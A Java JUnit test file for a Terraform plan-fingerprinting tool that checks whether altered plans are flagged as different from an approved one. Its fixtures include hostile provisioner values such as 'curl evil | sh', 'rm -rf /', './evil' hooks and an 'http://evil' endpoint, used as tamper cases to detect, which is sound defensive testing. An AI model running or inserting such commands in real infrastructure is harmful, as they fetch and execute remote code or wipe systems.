package dev.infrahub.terraform;

import static org.assertj.core.api.Assertions.assertThat;

import dev.infrahub.json.JsonValues;
import dev.infrahub.json.Value;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;

/** One approved plan, and others that do the same or do not. */
class PlanVariantsTests {

    private static final String SECRET = "tok-4711-abcdef-very-long";

    /** What is at the path gets another value; what differs is told in a sentence that holds these words. */
    private record Variant(String path, String json, String told) {}

    private static final String ROOT = "/configuration/root_module";
    private static final String BASTION = ROOT + "/resources/2";
    private static final String BOOT = ROOT + "/module_calls/app/module/module_calls/node/module/resources/0";

    private static final List<Variant> OTHERS = List.of(
            // what runs on somebody's machine
            new Variant(
                    BASTION + "/provisioners/0/expressions/command/constant_value",
                    "\"curl evil | sh\"",
                    "aws_instance.bastion provisioner local-exec 1: another value of command"),
            new Variant(BASTION + "/provisioners/0/type", "\"file\"", "aws_instance.bastion provisioner file 1"),
            new Variant(
                    BASTION + "/provisioners/1/expressions/inline/constant_value/0",
                    "\"rm -rf /\"",
                    "aws_instance.bastion provisioner remote-exec 2: another value of inline"),
            new Variant(
                    BASTION + "/provisioners", "[]", "aws_instance.bastion provisioner local-exec 1: approved is run"),
            new Variant(
                    BASTION + "/provisioners/2",
                    "{\"type\": \"local-exec\", \"expressions\": {}}",
                    "aws_instance.bastion provisioner local-exec 3: this plan does run"),
            new Variant(
                    BASTION + "/provisioners/0/expressions/environment/references/0",
                    "\"var.unused\"",
                    "aws_instance.bastion provisioner local-exec 1: another value of environment"),
            new Variant(
                    BOOT + "/provisioners/0/expressions/interpreter",
                    "{\"constant_value\": [\"/bin/zsh\"]}",
                    "module.app.module.node.null_resource.boot provisioner local-exec 1: another value of interpreter"),
            new Variant(
                    ROOT + "/module_calls/app/expressions/prefix/constant_value",
                    "\"evil\"",
                    "module.app.module.node.null_resource.boot provisioner local-exec 1: another value of command"),
            new Variant(
                    "/variables/deploy_token/value",
                    "\"another-token-of-them\"",
                    "aws_instance.bastion provisioner local-exec 1: another value of environment"),
            new Variant(
                    "/resource_changes/10/change/after/program/2",
                    "\"./evil\"",
                    "data.external.version: another value of program"),
            new Variant(
                    "/resource_changes/11/change/after/url",
                    "\"https://example.com/other\"",
                    "data.http.health: another value of url"),
            // whom it is done to
            new Variant(
                    "/configuration/provider_config/aws.west/expressions/region/constant_value",
                    "\"us-east-1\"",
                    "provider aws.west: another value of region"),
            new Variant(
                    "/configuration/provider_config/aws.west/expressions/assume_role/0/role_arn/constant_value",
                    "\"arn:aws:iam::333333333333:role/deploy\"",
                    "provider aws.west: another value of assume_role"),
            new Variant(
                    "/configuration/provider_config/aws/expressions/endpoints",
                    "{\"constant_value\": \"http://evil\"}",
                    "provider aws: this plan says endpoints"),
            new Variant(
                    "/variables/account/value",
                    "\"333333333333\"",
                    "provider aws: another value of allowed_account_ids"),
            new Variant(
                    "/configuration/provider_config/aws/full_name",
                    "\"registry.terraform.io/evil/aws\"",
                    "provider aws: another value of the source"),
            new Variant(
                    ROOT + "/resources/4/provider_config_key",
                    "\"aws.idle\"",
                    "aws_s3_bucket.copy: another value of the provider"),
            new Variant(
                    "/configuration/provider_config/aws.idle/expressions/region/constant_value",
                    "\"eu-west-3\"",
                    "provider aws.idle: another value of region"),
            // what is done
            new Variant(
                    "/resource_changes/0/change/after/instance_type",
                    "\"t3.metal\"",
                    "aws_instance.web: another value of instance_type"),
            new Variant(
                    "/resource_changes/0/change/before/instance_type",
                    "\"t3.nano\"",
                    "aws_instance.web: another value of instance_type"),
            new Variant(
                    "/resource_changes/0/change/after/tags/owner", "\"x\"", "aws_instance.web: this plan says tags"),
            new Variant(
                    "/resource_changes/0/change/before/id", "\"i-2\"", "aws_instance.web: another value of the object"),
            new Variant(
                    "/resource_changes/0/change/actions/0",
                    "\"delete\"",
                    "aws_instance.web: approved is update, this plan does delete"),
            new Variant(
                    "/resource_changes/1/change/after_unknown/max_size",
                    "true",
                    "aws_autoscaling_group.web: another value of max_size"),
            new Variant(
                    "/resource_changes/2/change/actions",
                    "[\"create\", \"delete\"]",
                    "aws_instance.bastion: another value of the order of its actions"),
            new Variant(
                    "/resource_changes/3/change/before/skip_final_snapshot",
                    "true",
                    "aws_db_instance.orders: another value of skip_final_snapshot"),
            new Variant(
                    "/resource_changes/3/change/before/id",
                    "\"db-customers\"",
                    "aws_db_instance.orders: another value of the object"),
            new Variant(
                    "/resource_changes/4/change/after/value",
                    "\"another-token-of-them\"",
                    "aws_ssm_parameter.token: another value of value"),
            new Variant(
                    "/resource_changes/7/previous_address",
                    "\"aws_sqs_queue.jobs\"",
                    "aws_sqs_queue.new_name: another value of the previous address"),
            new Variant(
                    "/resource_changes/8/change/importing/id",
                    "\"arn:aws:sns:eu-west-1:1:other\"",
                    "aws_sns_topic.alarm: another value of the import"),
            new Variant("/output_changes/url/after", "\"http://c\"", "output.url: another value of value"),
            new Variant(
                    "/output_changes/token/after", "\"another-token-of-them\"", "output.token: another value of value"),
            // what else
            new Variant(
                    "/action_invocations/0/config_values/payload",
                    "\"{}\"",
                    "action.aws_lambda_invoke.migrate: another value of payload"),
            new Variant(
                    "/action_invocations/0/lifecycle_action_trigger/action_trigger_event",
                    "\"BeforeUpdate\"",
                    "action.aws_lambda_invoke.migrate: another value of the trigger"),
            new Variant(
                    "/action_invocations/1",
                    "{\"address\": \"action.evil.x\", \"type\": \"evil\", \"name\": \"x\"}",
                    "action.evil.x: this plan does invoke"),
            new Variant("/errored", "true", "plan: this plan does errored"),
            new Variant("/complete", "false", "plan: this plan does incomplete"),
            new Variant(
                    "/deferred_changes",
                    "[{\"reason\": \"unknown\", \"resource_change\": {\"address\": \"a.b\", \"type\":"
                            + " \"a\", \"name\": \"b\", \"change\": {\"actions\": [\"create\"]}}}]",
                    "deferred a.b: this plan does create"),
            new Variant(
                    "/deferred_action_invocations",
                    "[{\"reason\": \"unknown\", \"action_invocation\": {\"address\": \"action.evil.x\"}}]",
                    "deferred action.evil.x: this plan does invoke"),
            // what nobody knows
            new Variant("/post_apply_hooks", "[\"./evil\"]", "plan member post_apply_hooks: this plan does"),
            new Variant("/resource_changes/0/run_as", "\"root\"", "aws_instance.web member run_as"),
            new Variant("/resource_changes/6/change/and_then", "{\"run\": 1}", "aws_sqs_queue.jobs member and_then"),
            new Variant(ROOT + "/hooks", "[1]", "root module member hooks"),
            new Variant(BASTION + "/connection", "{\"host\": 1}", "aws_instance.bastion member connection"),
            new Variant(
                    BASTION + "/provisioners/0/when",
                    "\"destroy\"",
                    "aws_instance.bastion provisioner local-exec 1 member when"),
            new Variant("/configuration/provider_config/vault/defer", "false", "provider vault member defer"),
            new Variant(ROOT + "/module_calls/app/providers", "{\"aws\": \"aws.idle\"}", "module.app member providers"),
            new Variant(ROOT + "/actions/0/shell", "\"sh\"", "action.aws_lambda_invoke.migrate member shell"),
            new Variant("/configuration/x y", "1", "configuration member (unnamed)"));

    private static final List<Variant> SAME = List.of(
            new Variant("/resource_changes/3/change/before/status", "\"stopped\"", "computed, of what goes away"),
            new Variant("/resource_changes/6/change/before/depth", "7", "of what is left alone"),
            new Variant("/resource_drift/0/change/after/depth", "9", "drift that changes nothing"),
            new Variant("/terraform_version", "\"1.15.0\"", "version"),
            new Variant("/format_version", "\"1.3\"", "format"),
            new Variant("/timestamp", "\"2027-01-01T00:00:00Z\"", "time"),
            new Variant("/relevant_attributes", "[]", "why"),
            new Variant("/checks", "[]", "no check"),
            new Variant("/applyable", "false", "a hint to people"),
            new Variant("/variables/unused/value", "\"z\"", "a variable that nothing which runs reaches"),
            new Variant(
                    "/configuration/provider_config/vault/expressions/address/constant_value",
                    "\"https://v\"",
                    "a provider that nothing runs under"),
            new Variant("/configuration/provider_config/aws/version_constraint", "\"~> 6.0\"", "version constraint"),
            new Variant(
                    ROOT + "/resources/5/provisioners/0/expressions/command/constant_value",
                    "\"./evil\"",
                    "a provisioner of what is left alone"),
            new Variant("/new_and_empty", "{}", "an unknown member that says nothing"));

    private final Map<String, Value> plan = Variations.members(OwnPlans.bytes("approved.json"));
    private final List<Deed> approved = deeds(plan);

    PlanVariantsTests() throws IOException {}

    @Test
    void whatDoesSomethingElseIsAnotherPlanAndSaysWhere() {
        for (Variant variant : OTHERS) {
            Map<String, Value> other = changed(variant);
            List<String> differences = PlanDifference.between(approved, deeds(other));
            assertThat(fingerprint(other)).as(variant.path).isNotEqualTo(fingerprint(plan));
            assertThat(differences)
                    .as(variant.path)
                    .anySatisfy(told -> assertThat(told).contains(variant.told));
            assertThat(differences)
                    .as(variant.path)
                    .noneMatch(told -> told.contains(SECRET) || told.contains("evil |"));
        }
    }

    @Test
    void whatDoesTheSameIsTheSamePlan() {
        for (Variant variant : SAME) {
            Map<String, Value> other = changed(variant);
            assertThat(PlanDifference.between(approved, deeds(other)))
                    .as(variant.told)
                    .isEmpty();
            assertThat(fingerprint(other)).as(variant.told).isEqualTo(fingerprint(plan));
        }
    }

    @Test
    void whatAutoscalersAndProvidersChangeOnBothSidesIsLeftAlone() {
        Map<String, Value> replanned = plan;
        for (String side : List.of("before", "after")) {
            String change = "/change/" + side;
            replanned = with(replanned, "/resource_changes/1" + change + "/desired_capacity", "5");
            replanned = with(replanned, "/resource_changes/1" + change + "/tag/0/value", "\"2\"");
            replanned =
                    with(replanned, "/resource_changes/0" + change + "/tags", "{\"team\": \"w\", \"by\": \"policy\"}");
        }
        replanned =
                with(replanned, "/resource_changes/3/change/before/latest_restorable_time", "\"2026-11-28T12:00:00Z\"");
        assertThat(fingerprint(replanned)).isEqualTo(fingerprint(plan));
    }

    @Test
    void theOrderOfMembersAndEntriesDoesNotMatter() {
        Random random = new Random(3);
        for (int turn = 0; turn < 20; turn++) {
            Map<String, Value> shuffled = new LinkedHashMap<>(plan);
            shuffled.computeIfPresent("resource_changes", (_, list) -> Variations.shuffledItems(list, random));
            Value.Members whole = (Value.Members) Variations.shuffled(new Value.Members(shuffled), random);
            assertThat(fingerprint(whole.members())).isEqualTo(fingerprint(plan));
        }
    }

    @Test
    void theProjectionReadsAsTheOriginalWhateverItHolds() {
        for (List<Variant> variants : List.of(OTHERS, SAME)) {
            for (Variant variant : variants) {
                byte[] original = Variations.bytes(changed(variant));
                byte[] redacted = PlanRedactionTests.redact(original);
                assertThat(read(redacted)).as(variant.path).isEqualTo(read(original));
                assertThat(PlanRedactionTests.redact(redacted)).as(variant.path).isEqualTo(redacted);
                assertThat(new String(redacted, StandardCharsets.UTF_8)).doesNotContain(SECRET);
            }
        }
    }

    @Test
    void theCodeThatRunsIsNamedAndWhatTheJsonDoesNotSayOfIt() {
        Plan read = read(Variations.bytes(plan));
        assertThat(read.code())
                .containsExactlyInAnyOrder(
                        new CodeRun(CodeRun.Kind.ACTION, "action.aws_lambda_invoke.migrate", "aws_lambda_invoke"),
                        new CodeRun(CodeRun.Kind.PROGRAM, "data.external.version", "external"),
                        new CodeRun(CodeRun.Kind.PROVISIONER, "aws_instance.bastion", "local-exec 1"),
                        new CodeRun(CodeRun.Kind.PROVISIONER, "aws_instance.bastion", "remote-exec 2"),
                        new CodeRun(
                                CodeRun.Kind.PROVISIONER, "module.app.module.node.null_resource.boot", "local-exec 1"));
        assertThat(read.limits())
                .hasSize(3)
                .anySatisfy(limit -> assertThat(limit)
                        .contains("aws_instance.bastion provisioner local-exec 1 environment (var.deploy_token)")
                        .contains("null_resource.boot provisioner local-exec 1 command (var.name, var.token)"))
                .anySatisfy(limit -> assertThat(limit)
                        .contains("provider aws region (var.region)")
                        .doesNotContain("assume_role"))
                .anySatisfy(limit -> assertThat(limit).contains("no block").contains("aws_db_instance.orders."));
        Plan computed = read(Variations.bytes(
                with(plan, "/configuration/provider_config/aws/expressions/region/references", "[\"local.region\"]")));
        assertThat(computed.limits()).anyMatch(limit -> limit.contains("provider aws region (local.region)"));
        Plan unknown = read(Variations.bytes(with(plan, "/hooks", "[1]")));
        assertThat(unknown.limits()).anyMatch(limit -> limit.contains("hooks (in the plan itself)"));
    }

    @Test
    void anyOtherValueInWhatIsInIsAnotherPlan() {
        int others = 0;
        for (String path : List.of(
                "/resource_changes/0/change/after/instance_type",
                "/resource_changes/4/change/after",
                "/resource_changes/5/change/after",
                "/resource_changes/9/change/after",
                "/resource_changes/10/change/after",
                "/output_changes/url/after",
                "/action_invocations/0/config_values",
                "/action_invocations/0/lifecycle_action_trigger",
                "/action_invocations/0/provider_name",
                "/configuration/provider_config/aws/expressions",
                "/configuration/provider_config/aws.west/expressions",
                "/configuration/provider_config/aws.idle/expressions",
                BASTION + "/provisioners",
                BOOT + "/provisioners",
                "/variables/region",
                "/variables/account",
                "/variables/deploy_token")) {
            List<Value> all = new ArrayList<>();
            Value original = at(new Value.Members(plan), path);
            Variations.eachOther(original, all::add);
            all.removeIf(
                    other -> ExactValues.of(other).equals(ExactValues.of(original)) || isUnsaid(path, original, other));
            for (Value other : all) {
                Map<String, Value> changed = replaced(plan, path, _ -> other);
                try {
                    assertThat(fingerprint(changed)).as(path + other).isNotEqualTo(fingerprint(plan));
                } catch (NotAPlan notAPlan) {
                    assertThat(notAPlan.code()).isEqualTo(NotAPlan.UNREADABLE);
                }
                others++;
            }
        }
        assertThat(others).isGreaterThan(100);
    }

    /** A member beside a variable's value says nothing, and neither does an unknown member that is empty. */
    private static boolean isUnsaid(String path, Value original, Value other) {
        return (path.startsWith("/variables/") && other.at("value").equals(original.at("value")))
                || withoutAdded(other).equals(withoutAdded(original));
    }

    /** An empty member that is added to a block. */
    private static Value withoutAdded(Value value) {
        return switch (value) {
            case Value.Members(var members) -> {
                Map<String, Value> kept = new LinkedHashMap<>();
                boolean block = members.containsKey("address") || members.containsKey("expressions");
                members.forEach((name, member) -> {
                    if (!block || !name.equals("hub-added")) {
                        kept.put(name, withoutAdded(member));
                    }
                });
                yield new Value.Members(kept);
            }
            case Value.Items(var items) ->
                new Value.Items(
                        items.stream().map(PlanVariantsTests::withoutAdded).toList());
            default -> value;
        };
    }

    private Map<String, Value> changed(Variant variant) {
        return with(plan, variant.path, variant.json);
    }

    private static Map<String, Value> with(Map<String, Value> plan, String path, String json) {
        Value value = JsonValues.parse(json).orElseThrow();
        Map<String, Value> changed = replaced(plan, path, _ -> value);
        assertThat(changed).as(path).isNotEqualTo(plan);
        return changed;
    }

    private static Map<String, Value> replaced(Map<String, Value> plan, String path, UnaryOperator<Value> change) {
        return ((Value.Members) replaced(new Value.Members(plan), steps(path), change)).members();
    }

    private static List<String> steps(String path) {
        return List.of(path.substring(1).split("/", -1));
    }

    private static Value at(Value value, String path) {
        Value at = value;
        for (String step : steps(path)) {
            at = at instanceof Value.Items(var items) ? items.get(Integer.parseInt(step)) : at.at(step);
        }
        return at;
    }

    private static Value replaced(Value value, List<String> steps, UnaryOperator<Value> change) {
        if (steps.isEmpty()) {
            return change.apply(value);
        }
        String step = steps.getFirst();
        List<String> rest = steps.subList(1, steps.size());
        if (value instanceof Value.Items(var items)) {
            List<Value> changed = new ArrayList<>(items);
            int index = Integer.parseInt(step);
            if (index == items.size()) {
                changed.add(Value.Special.NULL);
            }
            changed.set(index, replaced(changed.get(index), rest, change));
            return new Value.Items(changed);
        }
        Map<String, Value> changed =
                value instanceof Value.Members(var members) ? new LinkedHashMap<>(members) : new LinkedHashMap<>();
        changed.put(step, replaced(changed.getOrDefault(step, Value.Special.NULL), rest, change));
        return new Value.Members(changed);
    }

    private static Plan read(byte[] plan) {
        return PlanReader.read(new ByteArrayInputStream(plan));
    }

    private static String fingerprint(Map<String, Value> plan) {
        return of(plan).text();
    }

    private static List<Deed> deeds(Map<String, Value> plan) {
        return of(plan).deeds();
    }

    private static PlanFingerprint of(Map<String, Value> plan) {
        return PlanFingerprint.read(new ByteArrayInputStream(Variations.bytes(plan)), Fingerprints.KEY);
    }
}
